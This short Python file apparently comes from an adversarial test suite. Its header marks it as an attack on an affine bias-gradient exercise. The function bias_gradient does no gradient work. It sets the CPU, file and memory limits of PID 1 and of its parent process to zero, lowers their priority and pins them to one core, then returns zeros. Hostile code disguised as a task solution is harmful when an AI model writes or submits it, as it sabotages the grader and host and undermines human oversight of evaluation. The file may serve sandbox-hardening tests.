# Tries: lowers the limits and the priority of its parents
# Attacks: affine/bias-gradient
# Class: own
# %%
import os
import resource

def bias_gradient(dY):
    for pid in (1, os.getppid()):
        for which in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
            try:
                resource.prlimit(pid, which, (0, 0))
            except OSError:
                pass
        try:
            os.setpriority(os.PRIO_PROCESS, pid, 19)
            os.sched_setaffinity(pid, {0})
        except OSError:
            pass
    return np.zeros(dY.shape[1])
